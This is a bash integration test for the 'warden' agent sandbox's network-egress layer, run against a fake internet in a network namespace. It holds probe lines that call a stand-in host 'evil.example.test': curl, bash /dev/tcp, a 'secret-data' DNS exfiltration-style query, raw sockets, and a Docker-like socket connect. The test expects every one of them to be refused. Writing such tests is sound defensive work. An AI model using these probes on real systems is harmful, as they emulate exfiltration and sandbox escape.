#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Layer 6, network egress. A small fake internet in a network namespace
# behind a veth pair, with addresses from the documentation ranges:
#   192.0.2.10, 2001:db8::10   api.example.test (the allowed host): TCP 443, 8443
#   198.51.100.66              evil.example.test: TCP 443
#   198.51.100.53              dnsmasq, answering *.example.test, logging every query
# The host reaches it through 192.0.2.1 / 2001:db8::1; /etc/resolv.conf names
# 198.51.100.53. Agents run in the sandbox as nobody and, for what only root
# could try (raw sockets, host unix sockets), as root with --no-sandbox.
. "$(dirname "$0")/lib.sh"

NS=inet
SERVERLOG=$WORK/server.log
DNSLOG=$WORK/dnsmasq.log

setup_internet() {
	modprobe veth || return 1
	ip netns add $NS || return 1
	ip link add veth0 type veth peer name veth1 || return 1
	ip link set veth1 netns $NS
	ip addr add 192.0.2.1/24 dev veth0
	ip -6 addr add 2001:db8::1/64 dev veth0 nodad
	ip link set veth0 up
	ip -n $NS link set lo up
	ip -n $NS addr add 192.0.2.10/24 dev veth1
	ip -n $NS addr add 198.51.100.53/32 dev veth1
	ip -n $NS addr add 198.51.100.66/32 dev veth1
	ip -n $NS -6 addr add 2001:db8::10/64 dev veth1 nodad
	ip -n $NS link set veth1 up
	ip -n $NS route add default via 192.0.2.1
	ip route add 198.51.100.0/24 via 192.0.2.10
	echo "nameserver 198.51.100.53" >/etc/resolv.conf
	: >"$DNSLOG"
	ip netns exec $NS dnsmasq --keep-in-foreground --no-resolv --no-hosts --user=root \
		--listen-address=198.51.100.53 --bind-interfaces --log-queries \
		--log-facility="$DNSLOG" --local-ttl=2 --local=/example.test/ \
		--host-record=api.example.test,192.0.2.10,2001:db8::10 \
		--host-record=evil.example.test,198.51.100.66 \
		--host-record=other.example.test,192.0.2.10 &
	DNSMASQ=$!
	# every connection is logged with the bytes it brought, then answered
	cat >"$WORK/server.py" <<'PY'
import socket, sys, threading
log = open(sys.argv[1], "a", buffering=1)
def serve(family, addr, port):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, port)); s.listen(16)
    while True:
        c, peer = s.accept()
        c.settimeout(2)
        try:
            data = c.recv(4096)
        except Exception:
            data = b""
        log.write("conn %s %d %r\n" % (addr, port, data))
        try:
            c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 15\r\n\r\nhello from %d\n" % (port % 1000))
        except Exception:
            pass
        c.close()
for fam, a, p in [(socket.AF_INET, "192.0.2.10", 443), (socket.AF_INET, "192.0.2.10", 8443),
                  (socket.AF_INET6, "2001:db8::10", 443), (socket.AF_INET, "198.51.100.66", 443)]:
    threading.Thread(target=serve, args=(fam, a, p), daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
PY
	: >"$SERVERLOG"
	ip netns exec $NS python3 "$WORK/server.py" "$SERVERLOG" >"$WORK/server.out" 2>&1 &
	SERVER=$!
	for _ in $(seq 50); do
		grep -q ready "$WORK/server.out" 2>/dev/null && grep -q started "$DNSLOG" 2>/dev/null && return 0
		sleep 0.1
	done
	return 1
}

teardown_internet() {
	kill "$DNSMASQ" "$SERVER" "$LOOPSRV" "$UNIXSRV" "$ABSSRV" "$WSSRV" 2>/dev/null
	ip link del veth0 2>/dev/null
	ip netns del $NS 2>/dev/null
}

if ! setup_internet; then
	_result fail "the fake internet comes up" "$(cat "$WORK/server.out" "$DNSLOG" 2>&1)"
	teardown_internet
	finish
	exit 1
fi
check "the host reaches the fake internet (no warden)" \
	curl -sf --max-time 5 http://192.0.2.10:443/
check "dig resolves api.example.test (no warden)" \
	sh -c 'dig +short +time=2 +tries=1 api.example.test | grep -qx 192.0.2.10'

# host services an agent must not reach
socat TCP-LISTEN:7777,bind=127.0.0.1,fork,reuseaddr SYSTEM:'echo loopback-secret' &
LOOPSRV=$!
mkdir -p /run/fake /run/allowed
socat UNIX-LISTEN:/run/fake/docker.sock,fork SYSTEM:'echo docker' &
UNIXSRV=$!
socat ABSTRACT-LISTEN:warden-test-abstract,fork SYSTEM:'echo abstract' &
ABSSRV=$!
mkdir -p /srv/agents/web
chown nobody /srv/agents/web
socat UNIX-LISTEN:/run/allowed/ok.sock,fork SYSTEM:'echo listed-socket' &
WSSRV=$!
sleep 0.5

cat >"$WORK/policy.json" <<JSON
{
  "version": 1,
  "defaults": { "exec": { "security": "full" } },
  "agents": {
    "web":   { "workspace": "/srv/agents/web",
               "network": { "egress": ["api.example.test:443"],
                            "unix": ["/run/allowed/ok.sock"],
                            "mustReach": ["api.example.test:443"] } },
    "ipfix": { "network": { "egress": ["192.0.2.0/24:8443", "[2001:db8::10]:443"],
                            "mustReach": ["192.0.2.10:8443", "192.0.2.10:443"] } },
    "askme": { "network": { "egress": ["api.example.test:443"], "ask": "on-miss" } },
    "hostnet": { "network": "host" },
    "nonet": { }
  }
}
JSON
cp "$WORK/policy.json" "$WORK/policy-orig.json"
start_daemon "$WORK/policy.json" || { teardown_internet; finish; exit 1; }
check "warden check accepts the policy" "$WARDEN" check "$WORK/policy.json"

in_box() { "$WARDEN" run --agent "$1" -- sh -c "$2"; }
in_bash() { "$WARDEN" run --agent "$1" -- bash -c "$2"; }
as_root() { "$WARDEN" run --no-sandbox --agent "$1" -- sh -c "$2"; }
pycon() { # pycon HOST PORT [FAMILY]: python3 connect + one request, prints the answer
	echo "import socket,sys; s=socket.create_connection(('$1',$2),3); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); sys.stdout.write(s.recv(100).decode())"
}

# ---- what the agent may do ----
check_status "curl reaches api.example.test:443 by name" 0 in_box web \
	'curl -sf --max-time 5 http://api.example.test:443/'
check_output "  (the server answered)" 'hello from 443'
check_status "python3 reaches it by name" 0 in_box web "python3 -c \"$(pycon api.example.test 443)\""
check_output "  (the server answered)" 'hello from 443'
# the test server may reset the connection once it has answered: the answer is what counts
check_status "bash /dev/tcp reaches it by name" 0 in_bash web \
	'exec 3<>/dev/tcp/api.example.test/443 && printf "GET / HTTP/1.0\r\n\r\n" >&3 && { head -c 200 <&3 || true; }'
check_output "  (the server answered)" 'hello from 443'
check_status "curl reaches it over IPv6 by name" 0 in_box web \
	'curl -6 -sf --max-time 5 http://api.example.test:443/'
check_output "  (the server answered)" 'hello from 443'
check_status "dig in the sandbox gets the address from warden's resolver" 0 in_box web \
	'dig +short +time=2 +tries=1 api.example.test'
check_output "  (the answer)" '^192\.0\.2\.10$'
check_status "a DNS query over TCP is answered too" 0 in_box web \
	'dig +tcp +short +time=2 +tries=1 api.example.test'
check_output "  (the answer)" '^192\.0\.2\.10$'
check_event "allowed lookups are dns events" \
	'.type == "dns" and .verdict == "allow" and .agent == "web" and .name == "api.example.test"'

# ---- what it may not ----
check_status "evil.example.test is refused" 1 in_box web \
	'curl -s --max-time 5 http://evil.example.test:443/ >/dev/null || exit 1'
check_event "  the lookup is a dns event" \
	'.type == "dns" and .verdict == "deny" and .name == "evil.example.test"'
check_status "an IP literal is refused" 1 in_box web \
	'curl -s --max-time 5 http://198.51.100.66:443/ >/dev/null || exit 1'
check_event "  a net event with proto, addr and port" \
	'.type == "net" and .verdict == "deny" and .agent == "web" and .addr == "198.51.100.66" and .port == 443 and .proto == "tcp" and .reason == "destination-not-allowed"'
check_status "the allowed address on another port is refused" 1 in_box web \
	'curl -s --max-time 5 http://api.example.test:8443/ >/dev/null || exit 1'
check_event "  a net event naming the host the resolver gave" \
	'.type == "net" and .addr == "192.0.2.10" and .port == 8443 and .name == "api.example.test"'
check_status "python3 to the IP literal of evil is refused" 1 in_box web \
	"python3 -c \"$(pycon 198.51.100.66 443)\" 2>/dev/null || exit 1"
check_status "bash /dev/tcp to evil is refused" 1 in_bash web \
	'(exec 3<>/dev/tcp/198.51.100.66/443) 2>/dev/null || exit 1'
check_status "an unlisted loopback service is refused" 1 in_box web \
	'curl -s --max-time 5 http://127.0.0.1:7777/ >/dev/null || exit 1'
check_event "  a net event for 127.0.0.1:7777" '.type == "net" and .addr == "127.0.0.1" and .port == 7777'
check_status "UDP to the resolver's address on another port is refused" 1 in_box web \
	"python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.53', 9999))\" 2>/dev/null || exit 1"
check_event "  a net event for udp" '.type == "net" and .proto == "udp" and .port == 9999'
check_status "UDP over IPv6 to the allowed host's other port is refused" 1 in_box web \
	"python3 -c \"import socket; socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::10', 9999))\" 2>/dev/null || exit 1"
check_status "an IPv4-mapped IPv6 address of evil is refused" 1 in_box web \
	"python3 -c \"import socket; s=socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(('::ffff:198.51.100.66', 443))\" 2>/dev/null || exit 1"
check_status "a raw socket is refused (root, no sandbox)" 1 as_root web \
	"python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\" 2>/dev/null || exit 1"
check_event "  a net event for the socket" '.type == "net" and .op == "socket" and .proto == "raw"'
check_status "a packet socket is refused (root, no sandbox)" 1 as_root web \
	"python3 -c \"import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\" 2>/dev/null || exit 1"
check_status "the Docker-like socket under /run is refused (root, no sandbox)" 1 as_root web \
	'echo | socat -t2 - UNIX-CONNECT:/run/fake/docker.sock 2>/dev/null | grep -q docker || exit 1'
check_event "  a net event for the unix socket" \
	'.type == "net" and .proto == "unix" and .path == "/run/fake/docker.sock" and .reason == "unix-socket-not-allowed"'
check_status "an abstract socket of the host is refused" 1 in_box web \
	"python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0warden-test-abstract')\" 2>/dev/null || exit 1"
check_event "  a net event for the abstract socket" '.type == "net" and .path == "@warden-test-abstract"'
check_status "a listed unix socket is reachable (root, no sandbox)" 0 as_root web \
	'echo | socat -t2 - UNIX-CONNECT:/run/allowed/ok.sock'
check_output "  (it answered)" 'listed-socket'
check_status "a unix socket the agent serves itself is reachable" 0 in_box web \
	"python3 -c \"
import socket, os
a = socket.socket(socket.AF_UNIX); a.bind('\\0mine'); a.listen(1)
b = socket.socket(socket.AF_UNIX); b.connect('\\0mine'); print('own-abstract-ok')\""
check_output "  (connected)" 'own-abstract-ok'
check_status "the fake internet's DNS never saw evil.example.test" 1 grep -q evil.example.test "$DNSLOG"

: >"$SERVERLOG"
check_status "a DNS query for secret-data.evil.example.test is refused" 0 in_box web \
	'dig +time=2 +tries=1 @198.51.100.53 secret-data.evil.example.test'
check_output "  (status REFUSED)" 'status: REFUSED'
check_event "  a dns deny event" '.type == "dns" and .verdict == "deny" and .name == "secret-data.evil.example.test"'
check_status "  and it never reached the fake internet's DNS server" 1 grep -q secret-data "$DNSLOG"
check_status "a query to another address on port 53 is answered by warden too" 0 in_box web \
	'dig +short +time=2 +tries=1 @192.0.2.99 api.example.test'
check_output "  (the answer)" '^192\.0\.2\.10$'

# ---- literal addresses and CIDRs ----
check_status "a CIDR:PORT entry allows any address in it" 0 in_box ipfix \
	'curl -sf --max-time 5 http://192.0.2.10:8443/'
check_status "  not another port" 1 in_box ipfix \
	'curl -s --max-time 5 http://192.0.2.10:443/ >/dev/null || exit 1'
check_status "an [IPv6]:PORT entry" 0 in_box ipfix 'curl -sf --max-time 5 "http://[2001:db8::10]:443/"'
check_status "  names not listed are refused by the resolver" 1 in_box ipfix \
	'curl -s --max-time 5 http://api.example.test:8443/ >/dev/null || exit 1'

# ---- warden audit: network.mustReach, tried from inside the agent's confinement ----
check_status "audit --agent web: its mustReach name is reachable, nothing to say" 0 \
	"$WARDEN" audit --agent web
check "  (silent)" test -z "$LAST_OUTPUT"
check_status "audit --agent ipfix: a mustReach address warden refuses is a finding" 1 \
	"$WARDEN" audit --agent ipfix
check_output "  (192.0.2.10:443, refused)" \
	'agent\.unreachable: agent ipfix cannot reach 192\.0\.2\.10:443 \(network\.mustReach\) from inside its confinement: Operation not permitted'
check "  (the reachable 192.0.2.10:8443 is not one)" sh -c '! printf "%s" "$1" | grep -q 8443' sh "$LAST_OUTPUT"

# ---- TTL: the answer's addresses live for its TTL (2 s here) plus the grace ----
check_status "a lookup allows the address" 0 in_box web \
	'getent ahostsv4 api.example.test >/dev/null && curl -sf --max-time 5 http://192.0.2.10:443/'
sleep 9
check_status "after TTL + grace the address is refused without a new lookup" 1 in_box web \
	'curl -s --max-time 5 http://192.0.2.10:443/ >/dev/null || exit 1'
check_status "  a new lookup allows it again" 0 in_box web \
	'getent ahostsv4 api.example.test >/dev/null && curl -sf --max-time 5 http://192.0.2.10:443/'

# ---- reload: a removed name takes its addresses away at once ----
sed 's/"egress": \["api.example.test:443"\],/"egress": ["other.example.test:443"],/' \
	"$WORK/policy-orig.json" >"$WORK/policy.json"
in_box web 'getent ahostsv4 api.example.test >/dev/null' # fresh address before the reload
check "reload to a policy without api.example.test" "$WARDEN" reload --policy "$WORK/policy.json"
check_status "the address of the removed name is refused at once" 1 in_box web \
	'curl -s --max-time 5 http://192.0.2.10:443/ >/dev/null || exit 1'
check_status "  and the name is refused" 1 in_box web \
	'getent ahostsv4 api.example.test >/dev/null || exit 1'
check_status "the new name resolves and connects" 0 in_box web \
	'curl -sf --max-time 5 http://other.example.test:443/'
check_status "audit --agent web: the removed name, still in mustReach, is a finding" 1 \
	"$WARDEN" audit --agent web --json
check "  (agent.unreachable: api.example.test:443 does not resolve)" sh -c \
	'printf "%s" "$1" | jq -e ".[] | select(.id == \"agent.unreachable\" and .severity == \"high\" and (.message | test(\"cannot reach api.example.test:443 .*does not resolve\")))"' sh "$LAST_OUTPUT"
check "reload back" "$WARDEN" reload --policy "$WORK/policy-orig.json"

# ---- an attached cgroup (a container) is judged the same ----
mkdir -p /sys/fs/cgroup/netbox
check "warden attach a cgroup to agent web" "$WARDEN" attach --agent web --cgroup /sys/fs/cgroup/netbox
in_cgroup() { sh -c 'echo $$ > /sys/fs/cgroup/netbox/cgroup.procs && exec "$@"' sh "$@"; }
check_status "an attached cgroup cannot reach evil" 7 in_cgroup curl -s --max-time 5 http://198.51.100.66:443/
check_status "an attached cgroup reaches the allowed name" 0 in_cgroup curl -sf --max-time 5 http://api.example.test:443/
check_status "an attached cgroup's DNS goes to warden" 0 in_cgroup dig +time=2 +tries=1 secret.evil.example.test
check_output "  (REFUSED)" 'status: REFUSED'

# ---- ask "on-miss": a refused attempt becomes a request; a retry after approval passes ----
: >"$SERVERLOG"
net_request() { # net_request JQ-FILTER: id of the first pending network request matching it
	"$WARDEN" approvals --json | jq -r "select(.kind == \"net\" and .agent == \"askme\" and ($1)) | .id" | head -n 1
}
check_status "ask: an unknown name is refused" 1 in_box askme \
	'curl -s --max-time 5 http://evil.example.test:443/ >/dev/null || exit 1'
check_event "  a dns deny event that names its request" \
	'.type == "dns" and .verdict == "deny" and .agent == "askme" and .name == "evil.example.test" and .reason == "name-not-allowed-ask" and .approval > 0'
ID=$(net_request '.op == "dns" and .name == "evil.example.test"')
check "  a request for the name is pending" test -n "$ID"
check_status "  warden approvals shows it" 0 "$WARDEN" approvals
check_output "  (the name, any port)" 'looked up evil.example.test .*any port'
check_status "  the name never reached the fake internet's DNS" 1 grep -q evil.example.test "$DNSLOG"
check_status "  the server saw no byte before the approval" 1 grep -q "198.51.100.66" "$SERVERLOG"
check_status "approve it once" 0 "$WARDEN" approve "$ID"
check_output "  (allowed once)" 'allowed \(once for agent askme, evil.example.test'
check_status "the retry resolves the name and reaches the server" 0 in_box askme \
	'curl -sf --max-time 5 http://evil.example.test:443/'
check_output "  (the server answered)" 'hello from 443'
check "  the server saw that connection" grep -q "conn 198.51.100.66 443" "$SERVERLOG"
check_status "once is one connection: the next is refused" 1 in_box askme \
	'curl -s --max-time 5 http://evil.example.test:443/ >/dev/null || exit 1'
check_event "  a net event with a new request, naming the host" \
	'.type == "net" and .agent == "askme" and .addr == "198.51.100.66" and .port == 443 and .name == "evil.example.test" and .reason == "destination-not-allowed-ask" and .approval > 0'
check "  the server saw one connection only" test "$(grep -c 'conn 198.51.100.66 443' "$SERVERLOG")" = 1

# an address: the request shows the process; it waits a little so its argv can be read
askpy="import socket,time,sys
try:
    s=socket.create_connection(('192.0.2.10',8443),3); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); sys.stdout.write(s.recv(100).decode())
except OSError:
    time.sleep(1); sys.exit(1)"
check_status "ask: an address on an unlisted port is refused" 1 in_box askme "python3 -c \"$askpy\""
check_event "  a net event that names its request" \
	'.type == "net" and .agent == "askme" and .addr == "192.0.2.10" and .port == 8443 and .proto == "tcp" and .approval > 0'
ID=$(net_request '.addr == "192.0.2.10" and .port == 8443')
check "  a request for 192.0.2.10:8443 is pending" test -n "$ID"
check "  it shows the pid, argv and proto" sh -c "'$WARDEN' approvals --json | jq -e 'select(.id == $ID) | .pid > 0 and .proto == \"tcp\" and .argv[0] == \"python3\" and .comm == \"python3\"'"
check_status "deny it" 0 "$WARDEN" deny "$ID"
check_output "  (denied)" 'denied \(deny for agent askme'
check_event "  an approval event" ".type == \"approval\" and .approval == $ID and .decision == \"deny\" and .addr == \"192.0.2.10\""
check_status "after the denial the retry is refused" 1 in_box askme "python3 -c \"$askpy\""
check_status "  the server saw no byte on 8443" 1 grep -q "conn 192.0.2.10 8443" "$SERVERLOG"
ID=$(net_request '.addr == "192.0.2.10" and .port == 8443')
check "  the retry made a new request" test -n "$ID"
check_status "approve it for 1m" 0 "$WARDEN" approve "$ID" --for 1m
check_status "a retry reaches the server" 0 in_box askme "python3 -c \"$askpy\""
check_output "  (the server answered)" 'hello from 443'
check_status "  and so does the next (a timed grant is not used up)" 0 in_box askme "python3 -c \"$askpy\""
check_status "  not another port of that host" 1 in_box askme \
	'curl -s --max-time 5 http://192.0.2.10:9999/ >/dev/null || exit 1'
check_status "an agent without ask makes no request" 0 sh -c "! '$WARDEN' approvals --json | jq -e 'select(.agent == \"web\")' >/dev/null"

# ---- network "host" and "none" agents, and unmanaged processes, as before ----
check_status "a \"host\" agent reaches evil" 0 in_box hostnet 'curl -sf --max-time 5 http://198.51.100.66:443/'
check_status "a \"host\" agent reaches the host's abstract socket" 0 in_box hostnet \
	"python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0warden-test-abstract')\""
check_status "a \"none\" agent has no route out" 1 in_box nonet \
	'curl -s --max-time 3 http://192.0.2.10:443/ >/dev/null || exit 1'
check_status "a \"none\" agent has its own namespace" 0 in_box nonet 'readlink /proc/self/ns/net'
check "  (not the host's)" test "$LAST_OUTPUT" != "$(readlink /proc/self/ns/net)"
check "an unmanaged process reaches evil" curl -sf --max-time 5 http://198.51.100.66:443/
check "an unmanaged process still resolves through the host's resolver" \
	sh -c 'dig +short +time=2 +tries=1 evil.example.test | grep -qx 198.51.100.66'
check "an unmanaged root process opens a raw socket" \
	python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"
check_status "warden check warns that \"host\" is unrestricted egress" 0 "$WARDEN" check "$WORK/policy.json"
check_output "  (the warning)" 'agents.hostnet.network: "host" is unrestricted egress'

check_status "netDenied is counted in status" 0 sh -c "'$WARDEN' status --json | jq -e '.counters.netDenied > 0'"

teardown_internet
finish
